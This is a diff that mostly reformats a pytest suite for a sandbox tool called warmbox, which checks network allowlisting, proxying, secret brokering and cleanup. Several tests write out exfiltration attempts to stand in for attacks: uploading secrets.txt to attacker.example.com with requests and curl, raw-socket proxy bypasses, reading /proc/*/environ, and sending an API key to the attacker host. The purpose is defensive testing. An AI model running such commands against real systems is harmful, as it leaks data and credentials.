@@ -44,10 +44,10 @@ def test_default_sandbox_reaches_nothing(net_home, world):
             "tcp": f"{CURL} http://{ALLOWED}/hello.txt",
             "tcp_metadata": f"{CURL} http://{METADATA}/",
             "dns": "getent hosts allowed.test",
-            "udp": f"python3 -c \"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
-                   f"s.sendto(b'x', ('{ALLOWED}', 53))\"",
-            "icmp": f"python3 -c \"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1)"
-                    f".sendto(bytes.fromhex('0800f7ff00000000'), ('{ALLOWED}', 0))\"",
+            "udp": f'python3 -c "import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); '
+            f"s.sendto(b'x', ('{ALLOWED}', 53))\"",
+            "icmp": f'python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1)'
+            f".sendto(bytes.fromhex('0800f7ff00000000'), ('{ALLOWED}', 0))\"",
             "ipv6": "python3 -c \"import socket; socket.create_connection(('2001:db8::1', 80), timeout=3)\"",
             "proxy": f"{CURL} -x http://{netns.GATEWAY}:{netns.PROXY_PORT} http://allowed.test/hello.txt",
         }
@@ -65,13 +65,20 @@ def test_allowlisted_site_works_with_unchanged_tools(allow_sb, world):
     assert r.exit_code == 0 and r.stdout == "hello from the allowed site\n", r.stderr
     r = sh(sb, "cd /tmp && git clone -q http://allowed.test/repo.git && cat repo/README")
     assert r.exit_code == 0 and "cloned through the warmbox proxy" in r.stdout, r.stderr
-    r = sh(sb, "cd /tmp && python3 -m pip download -q --no-deps --disable-pip-version-check "
-               "--index-url http://allowed.test/simple/ --trusted-host allowed.test -d /tmp/dl wbtpkg "
-               "&& ls /tmp/dl", timeout=90)
+    r = sh(
+        sb,
+        "cd /tmp && python3 -m pip download -q --no-deps --disable-pip-version-check "
+        "--index-url http://allowed.test/simple/ --trusted-host allowed.test -d /tmp/dl wbtpkg "
+        "&& ls /tmp/dl",
+        timeout=90,
+    )
     assert r.exit_code == 0 and "wbtpkg-1.0-py3-none-any.whl" in r.stdout, r.stderr
     sb.files.write("/tmp/ca.pem", (world.dir / "ca.pem").read_text())
-    r = sh(sb, "python3 -c \"import requests; r = requests.get('https://allowed.test/hello.txt', "
-               "verify='/tmp/ca.pem', timeout=10); print(r.status_code, r.text.strip())\"")
+    r = sh(
+        sb,
+        "python3 -c \"import requests; r = requests.get('https://allowed.test/hello.txt', "
+        "verify='/tmp/ca.pem', timeout=10); print(r.status_code, r.text.strip())\"",
+    )
     assert r.exit_code == 0 and r.stdout.strip() == "200 hello from the allowed site", r.stderr
     got = events(sb, host="allowed.test", decision="allow")
     assert {e.kind for e in got} >= {"http", "connect"}
@@ -85,8 +92,11 @@ def test_allowlisted_site_works_with_unchanged_tools(allow_sb, world):
 def test_attacker_upload_is_refused_and_logged(allow_sb, world):
     sb = allow_sb
     sb.files.write("/workspace/secrets.txt", "customer data\n")
-    r = sh(sb, "python3 -c \"import requests; r = requests.post('http://attacker.example.com/upload', "
-               "files={'data': open('/workspace/secrets.txt','rb')}, timeout=10); print(r.status_code)\"")
+    r = sh(
+        sb,
+        "python3 -c \"import requests; r = requests.post('http://attacker.example.com/upload', "
+        "files={'data': open('/workspace/secrets.txt','rb')}, timeout=10); print(r.status_code)\"",
+    )
     assert r.stdout.strip() == "403", (r.stdout, r.stderr)
     r = sh(sb, f"{CURL} -T /workspace/secrets.txt https://attacker.example.com/upload")
     assert r.exit_code != 0
@@ -97,11 +107,13 @@ def test_attacker_upload_is_refused_and_logged(allow_sb, world):
 
 def test_raw_ip_and_direct_connections_bypassing_the_proxy_fail(allow_sb, world):
     sb = allow_sb
-    for cmd in (f"{CURL} --noproxy '*' http://{ALLOWED}/hello.txt",
-                f"{CURL} --noproxy '*' http://allowed.test/hello.txt",
-                f"python3 -c \"import socket; socket.create_connection(('{ATTACKER}', 443), timeout=3)\"",
-                f"python3 -c \"import socket; socket.create_connection(('{netns.GATEWAY}', 22), timeout=3)\"",
-                "python3 -c \"import socket; socket.create_connection(('2001:db8::1', 80), timeout=3)\""):
+    for cmd in (
+        f"{CURL} --noproxy '*' http://{ALLOWED}/hello.txt",
+        f"{CURL} --noproxy '*' http://allowed.test/hello.txt",
+        f"python3 -c \"import socket; socket.create_connection(('{ATTACKER}', 443), timeout=3)\"",
+        f"python3 -c \"import socket; socket.create_connection(('{netns.GATEWAY}', 22), timeout=3)\"",
+        "python3 -c \"import socket; socket.create_connection(('2001:db8::1', 80), timeout=3)\"",
+    ):
         r = sh(sb, cmd)
         assert r.exit_code != 0, cmd
     assert sh(sb, "cat /proc/net/if_inet6 2>/dev/null; ip -6 addr 2>/dev/null").stdout.strip() == ""  # no IPv6
@@ -168,24 +180,30 @@ def test_secret_is_brokered_never_seen(net_home, world):
     world.clear_logs()
     value = "sk-REAL-" + os.urandom(8).hex()
     net = Network(allow=["api.test", "attacker.example.com"])
-    with Sandbox.create(network=net, secrets={"OPENAI_API_KEY": Secret(value, hosts=["api.test"])},
-                        timeout=120, home=net_home) as sb:
+    with Sandbox.create(
+        network=net, secrets={"OPENAI_API_KEY": Secret(value, hosts=["api.test"])}, timeout=120, home=net_home
+    ) as sb:
         env = sh(sb, "env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'").stdout
         placeholder = next(line.split("=", 1)[1] for line in env.splitlines() if line.startswith("OPENAI_API_KEY="))
         assert value not in env and placeholder.startswith("warmbox-secret-")
-        r = sh(sb, "grep -rl --binary-files=text \"" + value + "\" / --exclude-dir=proc --exclude-dir=sys "
-                   "2>/dev/null | head -3")
+        r = sh(
+            sb,
+            'grep -rl --binary-files=text "' + value + '" / --exclude-dir=proc --exclude-dir=sys 2>/dev/null | head -3',
+        )
         assert r.stdout == ""
         # the allowed host gets the real value (HTTPS, intercepted with the sandbox's own CA)
-        r = sh(sb, f"{CURL} -H \"Authorization: Bearer $OPENAI_API_KEY\" https://api.test/headers")
+        r = sh(sb, f'{CURL} -H "Authorization: Bearer $OPENAI_API_KEY" https://api.test/headers')
         assert r.exit_code == 0, r.stderr
         assert json.loads(r.stdout)["Authorization"] == f"Bearer {value}"
-        r = sh(sb, "python3 -c \"import os, requests; print(requests.get('https://api.test/headers', headers="
-                   "{'X-Key': os.environ['OPENAI_API_KEY']}, timeout=10).json()['X-Key'])\"")
+        r = sh(
+            sb,
+            "python3 -c \"import os, requests; print(requests.get('https://api.test/headers', headers="
+            "{'X-Key': os.environ['OPENAI_API_KEY']}, timeout=10).json()['X-Key'])\"",
+        )
         assert r.stdout.strip() == value, r.stderr
         # an allowed host that is not the secret's gets only the inert placeholder
         for scheme in ("http", "https"):
-            r = sh(sb, f"{CURL} -k -H \"Authorization: Bearer $OPENAI_API_KEY\" -d x {scheme}://attacker.example.com/up")
+            r = sh(sb, f'{CURL} -k -H "Authorization: Bearer $OPENAI_API_KEY" -d x {scheme}://attacker.example.com/up')
             assert r.exit_code == 0, r.stderr
         seen = json.dumps(world.log("attacker"))
         assert placeholder in seen and value not in seen
@@ -196,6 +214,7 @@ def test_secret_is_brokered_never_seen(net_home, world):
         snap = sb.snapshot()
     eng = Engine.for_home(net_home)
     from warmbox.engine import snapshot as snapshots
+
     blob = snapshots.resolve(eng, snap.snapshot_id)
     assert value.encode() not in json.dumps(blob.__dict__, default=str).encode()
     assert value not in (net_home / "netproxy.log").read_text() if (net_home / "netproxy.log").exists() else True
@@ -229,8 +248,9 @@ def test_approval_hook_allows_and_denies(net_home, world):
         asked.append((req.host, req.port, req.kind))
         return {"allowed.test": "allow_once", "api.test": "allow_always"}.get(req.host, "deny")
 
-    with Sandbox.create(network=Network(allow=[], on_unknown="ask"), on_approval=hook, timeout=120,
-                        home=net_home) as sb:
+    with Sandbox.create(
+        network=Network(allow=[], on_unknown="ask"), on_approval=hook, timeout=120, home=net_home
+    ) as sb:
 
         def code(url):
             return sh(sb, f"{CURL} -o /dev/null -w '%{{http_code}}' {url}").stdout
@@ -271,8 +291,11 @@ def test_everything_is_removed_with_the_sandbox(net_home, world):
     sb.kill()
     assert engine.registry.link(sid) is None
     assert row[1] not in netns.links_in(egress_ns)
-    out = subprocess.run(["ip", "netns", "exec", egress_ns, "nft", "list", "set", "inet", "warmbox", "peers"],
-                         capture_output=True, text=True).stdout
+    out = subprocess.run(
+        ["ip", "netns", "exec", egress_ns, "nft", "list", "set", "inet", "warmbox", "peers"],
+        capture_output=True,
+        text=True,
+    ).stdout
     assert row[0] not in out
     assert engine.network_log(sid), "the audit log outlives the sandbox"
 
@@ -281,8 +304,25 @@ def test_cli_run_with_allowlist_and_net_log(net_home, world):
     world.clear_logs()
     env = {**os.environ, "WARMBOX_HOME": str(net_home)}
     wb = [os.path.join(os.path.dirname(__import__("sys").executable), "warmbox")]
-    r = subprocess.run([*wb, "run", "--json", "--allow", "allowed.test", "--", "curl", "-sS", "--max-time", "8",
-                        "http://allowed.test/hello.txt"], capture_output=True, text=True, env=env, timeout=120)
+    r = subprocess.run(
+        [
+            *wb,
+            "run",
+            "--json",
+            "--allow",
+            "allowed.test",
+            "--",
+            "curl",
+            "-sS",
+            "--max-time",
+            "8",
+            "http://allowed.test/hello.txt",
+        ],
+        capture_output=True,
+        text=True,
+        env=env,
+        timeout=120,
+    )
     assert r.returncode == 0, r.stderr
     rec = json.loads(r.stdout)
     assert rec["stdout"] == "hello from the allowed site\n" and "network" in rec["timings"]
@@ -290,8 +330,12 @@ def test_cli_run_with_allowlist_and_net_log(net_home, world):
     assert r.returncode == 0 and "allow" in r.stdout and "allowed.test:80" in r.stdout, r.stdout
     r = subprocess.run([*wb, "run", "--allow", "bad host!", "--", "true"], capture_output=True, text=True, env=env)
     assert r.returncode == 125 and r.stderr.startswith("warmbox: error:") and "Traceback" not in r.stderr
-    r = subprocess.run([*wb, "run", "--secret", "WBT_NOPE=api.test", "--allow", "api.test", "--", "true"],
-                       capture_output=True, text=True, env=env)
+    r = subprocess.run(
+        [*wb, "run", "--secret", "WBT_NOPE=api.test", "--allow", "api.test", "--", "true"],
+        capture_output=True,
+        text=True,
+        env=env,
+    )
     assert r.returncode == 125 and "WBT_NOPE" in r.stderr
 
 
@@ -302,14 +346,23 @@ def test_pooled_sandbox_gets_its_network_at_claim(net_home, world):
     world.clear_logs()
     cfg = net_home / "warmbox.toml"
     old = cfg.read_text()
-    cfg.write_text(old.replace("[pools]\n", "[pools.netpool]\ntemplate = \"shell\"\nmin = 1\nmax = 1\ntarget = 1\n"
-                                            "limits = { memory_mb = 384 }\n"))
+    cfg.write_text(
+        old.replace(
+            "[pools]\n",
+            '[pools.netpool]\ntemplate = "shell"\nmin = 1\nmax = 1\ntarget = 1\nlimits = { memory_mb = 384 }\n',
+        )
+    )
     engine = Engine.for_home(net_home)
     try:
         engine.ensure_daemon()
         wait_for(lambda: engine.registry.pool_counts("netpool")[0] >= 1, 60, "a pooled sandbox")
-        with Sandbox.create(template="shell", limits=Limits(memory_mb=384), network=Network(allow=["allowed.test"]),
-                            timeout=60, home=net_home) as sb:
+        with Sandbox.create(
+            template="shell",
+            limits=Limits(memory_mb=384),
+            network=Network(allow=["allowed.test"]),
+            timeout=60,
+            home=net_home,
+        ) as sb:
             assert sb.from_pool
             assert [t.stage for t in sb.stage_timings if t.on_request_path] == ["allocation", "network"]
             r = sh(sb, f"{CURL} http://allowed.test/hello.txt")
@@ -329,8 +382,9 @@ def test_connect_tunnel_needs_matching_sni(allow_sb, world):
         "try:\n"
         "    t = ctx.wrap_socket(s, server_hostname='attacker.example.com'); print('HANDSHAKE', t.version())\n"
         "except (ssl.SSLError, OSError) as e:\n"
-        "    print('REFUSED', type(e).__name__)\n")
-    r = sh(sb, f"python3 -c \"{code}\"")
+        "    print('REFUSED', type(e).__name__)\n"
+    )
+    r = sh(sb, f'python3 -c "{code}"')
     assert "REFUSED" in r.stdout, (r.stdout, r.stderr)
     assert [e.rule for e in events(sb, kind="connect")] == ["sni-mismatch"]
     assert events(sb, kind="connect")[0].decision == "deny"
